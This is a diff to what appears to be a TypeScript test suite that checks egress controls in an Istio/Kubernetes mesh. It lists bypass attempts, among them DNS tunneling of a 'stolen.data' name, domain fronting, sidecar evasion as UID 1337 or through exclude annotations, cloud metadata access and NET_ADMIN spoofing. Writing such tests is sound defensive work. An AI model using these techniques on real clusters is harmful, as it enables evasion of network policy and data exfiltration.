@@ -20,7 +20,7 @@ export interface Attempt {
 const PACKETS: Holder[] = ['NetworkPolicy'];
 const CAPTURED: Holder[] = ['Sidecar', ...PACKETS];
 const UID_1337 = { uid: 1337 };
-const NAME_AS_MESSAGE = `stolen.data.${ELSEWHERE}`;
+const STOLEN = `stolen.data.${ELSEWHERE}`;
 const ADDRESS = addressOf(ELSEWHERE);
 
 function by(url: string, options: Partial<RequestOptions> = {}): Request {
@@ -35,8 +35,8 @@ const BY_TRAFFIC: Attempt[] = [
   { what: 'HTTP to an undeclared host', heldBy: CAPTURED, request: by(http) },
   { what: 'HTTPS to an undeclared host', heldBy: CAPTURED, request: by(https) },
   { what: 'TCP to an undeclared address', heldBy: CAPTURED, request: by(`tcp://${ADDRESS}:9999`) },
-  { what: 'TCP that is no HTTP to an undeclared host, port 80', heldBy: CAPTURED, request: by(`tcp://${RAW}:80`) },
-  { what: 'TCP that is no TLS to an undeclared host, port 443', heldBy: CAPTURED, request: by(`tcp://${RAW}:443`) },
+  { what: 'TCP that is not HTTP to an undeclared host, port 80', heldBy: CAPTURED, request: by(`tcp://${RAW}:80`) },
+  { what: 'TCP that is not TLS to an undeclared host, port 443', heldBy: CAPTURED, request: by(`tcp://${RAW}:443`) },
   { what: 'another port of a declared host', heldBy: CAPTURED, request: by(`tcp://${DECLARED.payments}:9999`) },
   { what: 'HTTPS to a declared host, which has a route for HTTP', heldBy: CAPTURED, request: by(`https://${DECLARED.payments}/`) },
   { what: 'an undeclared host at the address of a declared one, HTTP', heldBy: CAPTURED, request: by(http, { connect: `${DECLARED.payments}:80` }) },
@@ -44,30 +44,30 @@ const BY_TRAFFIC: Attempt[] = [
   { what: 'a declared host at the address of an undeclared one, TLS', heldBy: ['the route'], request: by(`https://${DECLARED.cdn}/`, { connect: `${ELSEWHERE}:443` }) },
   { what: 'a declared host as a forward proxy', heldBy: CAPTURED, request: by(http, { proxy: `${DECLARED.payments}:80` }) },
   {
-    what: 'fronting: a declared server name, another Host inside of TLS',
+    what: 'domain fronting: a declared SNI, another Host inside TLS',
     heldBy: [],
     request: by(`https://${DECLARED.cdn}/`, { headers: { host: 'hidden.example.net' } }),
     out: ({ server }) => server?.host === 'hidden.example.net',
   },
-  { what: 'user 1337', heldBy: PACKETS, request: by(https, UID_1337) },
+  { what: 'UID 1337', heldBy: PACKETS, request: by(https, UID_1337) },
   { what: 'annotation excludeOutboundPorts', heldBy: PACKETS, request: by(https, { from: 'excludes-ports' }) },
   { what: 'annotation excludeOutboundIPRanges', heldBy: PACKETS, request: by(https, { from: 'excludes-ranges' }) },
   { what: 'annotation includeOutboundIPRanges', heldBy: PACKETS, request: by(https, { from: 'includes-ranges' }) },
   { what: 'annotation excludeInterfaces', heldBy: PACKETS, request: by(https, { from: 'excludes-interface' }) },
   { what: 'a pod without a sidecar', heldBy: PACKETS, request: by(https, { from: 'bare' }) },
-  { what: 'a pod in the network of its node', heldBy: [], request: by(https, { from: 'host' }) },
+  { what: 'a pod with hostNetwork', heldBy: [], request: by(https, { from: 'host' }) },
   { what: 'UDP', heldBy: PACKETS, request: by(`udp://${ADDRESS}:9999`) },
   { what: 'QUIC, HTTP/3', heldBy: PACKETS, request: by(`h3://${ELSEWHERE}/`) },
   { what: 'ICMP', heldBy: PACKETS, request: by(`icmp://${ELSEWHERE}`), out: ({ body = '' }) => body.startsWith('echo') },
-  { what: 'a name server outside, UDP', heldBy: PACKETS, request: by(`dns://${ADDRESS}/${NAME_AS_MESSAGE}`) },
-  { what: 'a name server outside, TCP', heldBy: CAPTURED, request: by(`dns+tcp://${ADDRESS}/${NAME_AS_MESSAGE}`) },
-  { what: 'a name server outside, TLS', heldBy: CAPTURED, request: by(`tls://${ELSEWHERE}:853`) },
-  { what: 'a name as a message, by the name server of the cluster', heldBy: [], request: by(`dns://${CLUSTER_DNS}/${NAME_AS_MESSAGE}`) },
-  { what: 'a name as a message, by the name server of the node', heldBy: [], request: by(`dns://${NODE_DNS}/${NAME_AS_MESSAGE}`) },
-  { what: 'metadata of the cloud', heldBy: CAPTURED, request: by(`http://${METADATA}/`) },
-  { what: 'metadata of the cloud, user 1337', heldBy: PACKETS, request: by(`http://${METADATA}/`, UID_1337) },
+  { what: 'DNS to a resolver outside, UDP', heldBy: PACKETS, request: by(`dns://${ADDRESS}/${STOLEN}`) },
+  { what: 'DNS to a resolver outside, TCP', heldBy: CAPTURED, request: by(`dns+tcp://${ADDRESS}/${STOLEN}`) },
+  { what: 'DNS to a resolver outside, TLS', heldBy: CAPTURED, request: by(`tls://${ELSEWHERE}:853`) },
+  { what: 'DNS tunnel through cluster DNS', heldBy: [], request: by(`dns://${CLUSTER_DNS}/${STOLEN}`) },
+  { what: 'DNS tunnel through node-local DNS', heldBy: [], request: by(`dns://${NODE_DNS}/${STOLEN}`) },
+  { what: 'cloud metadata server', heldBy: CAPTURED, request: by(`http://${METADATA}/`) },
+  { what: 'cloud metadata server, UID 1337', heldBy: PACKETS, request: by(`http://${METADATA}/`, UID_1337) },
   {
-    what: 'the gateway without a certificate',
+    what: 'leg 1 without a client certificate',
     heldBy: ['the gateway'],
     out: reached,
     request: by(`https://${DECLARED.payments}/`, { connect: 'egress:8443', sni: 'egress.istio-egress.mesh.internal', insecure: true, ...UID_1337 }),
@@ -211,7 +211,7 @@ const BY_OBJECTS: Attempt[] = [
     }],
   },
   {
-    what: 'istiod, by the address of the keys in an own RequestAuthentication',
+    what: 'own RequestAuthentication, whose jwksUri istiod fetches',
     heldBy: [],
     request: by(`http://${DECLARED.payments}/`),
     objects: [{
@@ -229,7 +229,7 @@ const BY_OBJECTS: Attempt[] = [
     objects: [kube('networking.k8s.io/v1', 'NetworkPolicy', 'own', { spec: { podSelector: {}, policyTypes: ['Egress'], egress: [{}] } })],
   },
   // last, since the pod keeps the address
-  { what: 'NET_ADMIN: the address of a pod that is not locked, UDP one way', heldBy: [], request: by(`udp://${ADDRESS}:9999`, { as: 'billing', timeoutS: 1 }) },
+  { what: 'NET_ADMIN: UDP from the address of a pod that is not locked', heldBy: [], request: by(`udp://${ADDRESS}:9999`, { as: 'billing', timeoutS: 1 }) },
 ];
 
 export const ATTEMPTS: readonly Attempt[] = [...BY_TRAFFIC, ...BY_OBJECTS].map(attempt => ({
